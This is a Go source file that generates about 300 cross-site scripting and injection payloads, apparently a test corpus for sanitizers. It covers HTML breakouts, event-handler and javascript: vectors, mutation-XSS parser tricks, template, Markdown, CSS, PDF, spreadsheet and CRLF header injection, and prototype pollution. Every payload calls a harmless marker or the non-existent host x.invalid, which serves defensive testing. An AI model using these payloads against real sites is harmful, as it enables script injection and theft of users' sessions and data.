package inject

import (
	"fmt"
	"strings"
)

// Count is how many payloads there are.
const Count = 300

// Foreign is the host that payloads call; it exists nowhere.
const Foreign = "x.invalid"

// Payloads are texts that run a script, load something foreign or break out of their
// place wherever they are taken for more than text. The i-th calls __ran(i), or asks
// Foreign for something with i in it.
func Payloads() []string {
	var forms []string
	for _, before := range breakouts {
		for _, v := range vectors {
			forms = append(forms, before+v)
		}
	}
	forms = append(forms, tricks...)
	out := make([]string, len(forms))
	for i, f := range forms {
		out[i] = strings.NewReplacer("JS", fmt.Sprintf("__ran(%d)", i), "URL", fmt.Sprintf("http://%s/%d", Foreign, i)).Replace(f)
	}
	return out
}

// Part is one of so many parts of the payloads: all of them together are all, and each
// has something of every kind. What stands in a row moves on by one in the next row.
func Part(part, parts int) (out []string) {
	for i, p := range Payloads() {
		if (i+i/len(vectors))%parts == part {
			out = append(out, p)
		}
	}
	return out
}

// breakouts end what a text may stand in: nothing, an attribute, an element of raw
// text, a comment, a script's string.
var breakouts = []string{"", `">`, `'>`, "</script>", "</textarea></title></style>", "-->]]>", "\u202e</p>"}

// vectors are elements that run JS, or load URL, once they are parsed.
var vectors = []string{
	`<script>JS</script>`,
	`<img src=x onerror=JS>`,
	`<svg onload=JS>`,
	`<svg><script>JS</script></svg>`,
	`<svg><animate onbegin=JS attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:JS"><text y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='JS'/></svg>#x">`,
	`<body onload=JS>`,
	`<iframe srcdoc="<script>parent.JS</script>">`,
	`<iframe src="javascript:parent.JS">`,
	`<a href="javascript:JS">x</a>`,
	`<math><maction actiontype="statusline#x" xlink:href="javascript:JS">x</maction></math>`,
	`<input autofocus onfocus=JS>`,
	`<select autofocus onfocus=JS>`,
	`<details open ontoggle=JS>`,
	`<video><source onerror=JS></video>`,
	`<audio src=x onerror=JS>`,
	`<object data="javascript:JS">`,
	`<embed src="javascript:JS">`,
	`<form action="javascript:JS"><button autofocus>x</button></form>`,
	`<button formaction="javascript:JS">x</button>`,
	`<meta http-equiv=refresh content="0;url=javascript:JS">`,
	`<base href="URL/">`,
	`<link rel=stylesheet href="URL.css">`,
	`<style>@import 'URL.css';</style>`,
	`<div style="background:url(URL.png)">x</div>`,
	`<img src="URL.png">`,
	`<marquee onstart=JS>x</marquee>`,
	`<p style="animation:spin 1s" onanimationstart=JS>x</p>`,
	`<template><img src=x onerror=JS></template>`,
}

// tricks are for what is no plain HTML: attributes, scripts, templates, addresses,
// Markdown, slides, styles, papers, tables, headers, and parsers that disagree.
var tricks = []string{
	`" onfocus=JS autofocus x="`,
	`' onpointerover=JS x='`,
	` onerror=JS src=x `,
	`" style="background:url(URL)" x="`,
	`x" srcdoc="<script>parent.JS</script>`,
	`';JS;//`,
	`";JS;//`,
	`\';JS;//`,
	"`;JS;`",
	`*/JS/*`,
	"\u2028JS\u2029",
	`</script><script>JS</script>`,
	`<!--<script>JS</script>-->`,
	`${JS}`,
	`{{JS}}`,
	`{{constructor.constructor('JS')()}}`,
	`{@html '<img src=x onerror=JS>'}`,
	`#{JS}`,
	`<%= JS %>`,
	`{%JS%}`,
	`[[${JS}]]`,
	`{{define "x"}}<script>JS</script>{{end}}{{template "x"}}`,
	`\u003cimg src=x onerror=JS\u003e`,
	`\x3cimg src=x onerror=JS\x3e`,
	`%3Cimg%20src=x%20onerror=JS%3E`,
	`&lt;img src=x onerror=JS&gt;`,
	`&#60;img src=x onerror=JS&#62;`,
	`&#x3c;script&#x3e;JS&#x3c;/script&#x3e;`,
	`&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;`,
	`+ADw-script+AD4-JS+ADw-/script+AD4-`,
	`javascript:JS`,
	`JaVaScRiPt:JS`,
	" \x01javascript:JS",
	"java\tscript:JS",
	"java\nscript:JS",
	`javascript&colon;JS`,
	`javascript:void(JS)`,
	`data:text/html,<script>parent.JS</script>`,
	`data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW4oMSk8L3NjcmlwdD4=`,
	`vbscript:JS`,
	`//x.invalid/JS`,
	`[x](javascript:JS)`,
	`[x](<javascript:JS>)`,
	`[x](javascript:JS "x")`,
	`[x](data:text/html,<script>JS</script>)`,
	"[x][y]\n\n[y]: javascript:JS",
	`<javascript:JS>`,
	`![x](javascript:JS)`,
	`![x](x.jpg" onerror="JS)`,
	`![x" onerror="JS](x.jpg)`,
	`![x](URL.png)`,
	"```html\n<img src=x onerror=JS>\n```",
	"`<img src=x onerror=JS>`",
	`**<img src=x onerror=JS>**`,
	`# <svg onload=JS>`,
	`<!-- layout: "><img src=x onerror=JS> -->`,
	`<!-- .slide: data-background-iframe="javascript:parent.JS" -->`,
	`<!-- .element: onclick="JS" class="fragment" -->`,
	`<section data-background-iframe="javascript:parent.JS" data-markdown>x</section>`,
	`<section data-background-color="x" data-background-image="URL.png">x</section>`,
	`<noscript><p title="</noscript><img src=x onerror=JS>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;">`,
	`<svg></p><style><a id="</style><img src=x onerror=JS>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>`,
	`<listing>&lt;img src=x onerror=JS&gt;</listing>`,
	`<title><img title="</title><img src=x onerror=JS>">`,
	`<select><style></select><img src=x onerror=JS></style>`,
	"<a title=\"`<img src=x onerror=JS>`\">",
	`red;background:url(URL)`,
	`expression(JS)`,
	`}</style><img src=x onerror=JS>`,
	`#fff;}*{background:url(URL)}`,
	"\uff1cimg src=x onerror=JS\uff1e",
	"<\u200bimg src=x onerror=JS>",
	"<img\fsrc=x\fonerror=JS>",
	`<img/src=x/onerror=JS>`,
	`<IMG SRC=x OnErRoR=JS>`,
	"<img src=x onerror\n=\nJS>",
	`<img src=x onerror=JS&#59;>`,
	`<svg/onload=JS//`,
	`<<img src=x onerror=JS//<`,
	"\x00<img src=x onerror=JS>",
	`<scr<script>ipt>JS</scr</script>ipt>`,
	`)>>/AA<</O<</S/JavaScript/J(app.alert)>>>>(JS`,
	"\nendobj\n9 0 obj<</S/URI/URI(URL)>>endobj",
	`=HYPERLINK("URL","JS")`,
	"\r\n\r\n<script>JS</script>",
	"\r\nLocation: URL",
	`"},"x":{"__proto__":{"y":"<img src=x onerror=JS>"}}`,
	`x'-JS-'`,
}
